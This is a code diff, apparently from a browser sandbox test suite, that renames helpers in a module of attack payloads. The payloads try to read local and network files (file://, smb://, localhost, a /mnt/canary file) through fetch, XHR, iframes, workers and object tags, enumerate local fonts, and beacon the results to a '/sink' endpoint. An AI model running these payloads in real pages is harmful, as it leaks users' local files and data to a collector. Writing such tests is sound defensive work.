@@ -1,4 +1,4 @@
-import { type Attack, scripts } from './attack.ts'
+import { type Attack, createScriptAttacks } from './attack.ts'
 
 const addresses = [
   ...[
@@ -29,7 +29,7 @@ const addresses = [
     'smb://10.0.0.1/a',
   ],
 ]
-const all = `const addresses = ${JSON.stringify(addresses)}
+const setup = `const addresses = ${JSON.stringify(addresses)}
 const send = (text) => navigator.sendBeacon('/sink', text)`
 
 const hosts = {
@@ -44,14 +44,14 @@ const hosts = {
 
 /** Files of the machine, and addresses that mean something to the browser itself. */
 export const schemeAttacks: Attack[] = [
-  ...scripts({
-    'scheme-fetch': `${all}; for (const address of addresses) fetch(address).then((answer) => answer.text()).then(send).catch(() => 0)`,
-    'scheme-xhr': `${all}; for (const address of addresses) try { const request = new XMLHttpRequest(); request.onload = () => send(request.responseText); request.open('GET', address); request.send() } catch {}`,
-    'scheme-frames': `${all}; for (const address of addresses) { const frame = document.createElement('iframe'); frame.src = address; frame.onload = () => { try { send(frame.contentDocument.documentElement.outerHTML) } catch {} }; document.body.append(frame) }`,
-    'scheme-windows': `${all}; for (const address of addresses) try { open(address); open(address, '_blank', 'noopener') } catch {}`,
-    'scheme-links': `${all}; for (const address of addresses) { const link = document.createElement('a'); link.href = address; link.download = ''; document.body.append(link); link.click() }`,
-    'scheme-scripts': `${all}; for (const address of addresses) for (const tag of ['script', 'img', 'embed', 'video']) { const element = document.createElement(tag); element.src = address; document.body.append(element) }`,
-    'scheme-workers': `${all}; for (const address of addresses) try { new Worker(address) } catch {}`,
+  ...createScriptAttacks({
+    'scheme-fetch': `${setup}; for (const address of addresses) fetch(address).then((answer) => answer.text()).then(send).catch(() => 0)`,
+    'scheme-xhr': `${setup}; for (const address of addresses) try { const request = new XMLHttpRequest(); request.onload = () => send(request.responseText); request.open('GET', address); request.send() } catch {}`,
+    'scheme-frames': `${setup}; for (const address of addresses) { const frame = document.createElement('iframe'); frame.src = address; frame.onload = () => { try { send(frame.contentDocument.documentElement.outerHTML) } catch {} }; document.body.append(frame) }`,
+    'scheme-windows': `${setup}; for (const address of addresses) try { open(address); open(address, '_blank', 'noopener') } catch {}`,
+    'scheme-links': `${setup}; for (const address of addresses) { const link = document.createElement('a'); link.href = address; link.download = ''; document.body.append(link); link.click() }`,
+    'scheme-scripts': `${setup}; for (const address of addresses) for (const tag of ['script', 'img', 'embed', 'video']) { const element = document.createElement(tag); element.src = address; document.body.append(element) }`,
+    'scheme-workers': `${setup}; for (const address of addresses) try { new Worker(address) } catch {}`,
     'scheme-blob': `const page = URL.createObjectURL(new Blob(['<script>for (const at of ["file:///mnt/canary", "http://127.0.0.1/"]) fetch(at, { mode: "no-cors" })</' + 'script>'], { type: 'text/html' })); const frame = document.createElement('iframe'); frame.src = page; document.body.append(frame); setTimeout(() => { location = page }, 300)`,
     'scheme-document': `document.body.innerHTML = '<object data="file:///mnt/canary"></object><link rel="import" href="file:///mnt/canary"><iframe src="view-source:file:///mnt/canary"></iframe>'`,
     'local-fonts': `queryLocalFonts?.().then((fonts) => fonts.forEach((font) => font.blob().then((data) => navigator.sendBeacon('/sink', data)))).catch(() => 0); showOpenFilePicker?.().catch(() => 0)`,
